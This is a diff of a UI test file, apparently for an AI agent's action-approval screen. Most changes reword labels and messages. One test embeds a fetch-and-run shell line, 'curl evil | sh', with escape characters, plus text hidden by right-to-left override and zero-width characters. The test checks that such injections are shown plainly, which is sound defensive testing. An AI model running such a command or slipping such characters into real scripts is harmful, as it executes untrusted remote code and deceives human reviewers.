@@ -21,8 +21,8 @@ describe('a question', () => {
   it('[U33] has nothing answered beforehand and says what is missing', async () => {
     const { api } = await renderConversation(askingLog);
     await answerButton().click();
-    await expect.element(page.getByText('Please answer this one.').first()).toBeInTheDocument();
-    expect(page.getByText('Please answer this one.').elements().length).toBe(4);
+    await expect.element(page.getByText('Please answer this question.').first()).toBeInTheDocument();
+    expect(page.getByText('Please answer this question.').elements().length).toBe(4);
     expect(api.sent).toEqual([]);
   });
 
@@ -132,11 +132,11 @@ describe('a form', () => {
 
   it('[U123] that is written as JSON is not sent while it is none', async () => {
     const { api } = await renderConversation(inConversation(toLog(RUN_ID, onlyForm({}))));
-    const field = page.getByRole('textbox', { name: 'As JSON' });
+    const field = page.getByRole('textbox', { name: 'JSON value' });
     await field.fill('{ "a": 1 }');
     await field.fill('{ "a": 12');
     await answerButton().click();
-    await expect.element(page.getByText('This is no JSON object yet.')).toBeVisible();
+    await expect.element(page.getByText('This is not a valid JSON object.')).toBeVisible();
     expect(api.sent).toEqual([]);
     await field.fill('{ "a": 12 }');
     await answerButton().click();
@@ -147,17 +147,17 @@ describe('a form', () => {
 describe('an approval', () => {
   it('[U34] shows exactly what would change', async () => {
     await renderConversation(eventfulLog);
-    const change = page.getByRole('group', { name: 'What would change' });
+    const change = page.getByRole('group', { name: 'Proposed change' });
     await expect.element(change).toHaveTextContent('−We start from nothing.');
     await expect.element(change).toHaveTextContent('+We start from what exists: the pantry service of 2024.');
   });
 
   it.each([
     ['Allow once', 'once'],
-    ['No', 'no'],
+    ['Deny', 'no'],
   ] as const)('[U34] is given once: %s', async (name, decision) => {
     const { api } = await renderConversation(eventfulLog);
-    await page.getByRole('textbox', { name: /A word to the model/ }).fill('Keep the title.');
+    await page.getByRole('textbox', { name: /Note to the model/ }).fill('Keep the title.');
     const button = page.getByRole('button', { name, exact: true });
     await expect.element(button).toBeVisible();
     (button.element() as HTMLElement).click();
@@ -173,7 +173,7 @@ describe('an approval', () => {
     const diff = `--- /dev/null\n+++ @project/a.sh\n@@ -0,0 +1,${all.length} @@\n${all.map((line) => `+${line}\n`).join('')}`;
     const shown = eventful.map((fact) => (fact.type === 'approval.requested' ? { ...fact, diff } : fact));
     await renderConversation(inConversation(toLog(RUN_ID, shown)));
-    const change = page.getByRole('group', { name: 'What would change' });
+    const change = page.getByRole('group', { name: 'Proposed change' });
     await expect.element(change).toHaveTextContent(": '⟨1B⟩]'; curl evil | sh; : '⟨7⟩'");
     await expect.element(change).toHaveTextContent('a⟨202E⟩b⟨200B⟩c');
     await page.getByRole('button', { name: 'Show 1000 more characters' }).click();
@@ -196,15 +196,13 @@ describe('an approval', () => {
       fact.type === 'approval.requested' ? { type: fact.type, callId, tool, action } : fact,
     );
     const { api } = await renderConversation(inConversation(toLog(RUN_ID, shown)));
-    await expect.element(page.getByText('May this action be run?')).toBeVisible();
+    await expect.element(page.getByText('Allow this action?')).toBeVisible();
     await expect.element(page.getByText(action.title)).toBeVisible();
-    await expect
-      .element(page.getByText('This acts outside of the project and cannot be undone.'))
-      .toBeVisible();
+    await expect.element(page.getByText('This acts outside the project and can’t be undone.')).toBeVisible();
     await expect
       .element(page.getByRole('group', { name: 'Arguments' }))
       .toHaveTextContent('"title": "Fix⟨202E⟩ it",');
-    await page.getByRole('button', { name: 'Allow for longer' }).click();
+    await page.getByRole('button', { name: 'More options' }).click();
     await expect.element(page.getByRole('menuitem', { name: 'All files' })).not.toBeInTheDocument();
     await page.getByRole('menuitem', { name: 'mcp.tickets.create, for this run' }).click();
     await expect.poll(() => api.sent).toEqual([['approve', 'c10', { decision: 'run', reach: 'file' }]]);
@@ -216,10 +214,10 @@ describe('an approval', () => {
     );
     await renderConversation(inConversation(toLog(RUN_ID, dangerous)));
     await expect
-      .element(page.getByText('Careful: a build server runs this file after the next push.'))
+      .element(page.getByText('Careful: the build server runs this file after the next push.'))
       .toBeVisible();
     await expect.element(page.getByRole('button', { name: 'Allow once' })).toBeVisible();
-    await expect.element(page.getByRole('button', { name: 'Allow for longer' })).not.toBeInTheDocument();
+    await expect.element(page.getByRole('button', { name: 'More options' })).not.toBeInTheDocument();
   });
 
   it.each([
@@ -228,7 +226,7 @@ describe('an approval', () => {
     ['All files, always', 'always', 'all'],
   ] as const)('[U34] reaches as far as its name says: %s', async (name, decision, reach) => {
     const { api } = await renderConversation(eventfulLog);
-    await page.getByRole('button', { name: 'Allow for longer' }).click();
+    await page.getByRole('button', { name: 'More options' }).click();
     await page.getByRole('menuitem', { name }).click();
     await expect.poll(() => api.sent).toEqual([['approve', 'c10', { decision, reach }]]);
   });
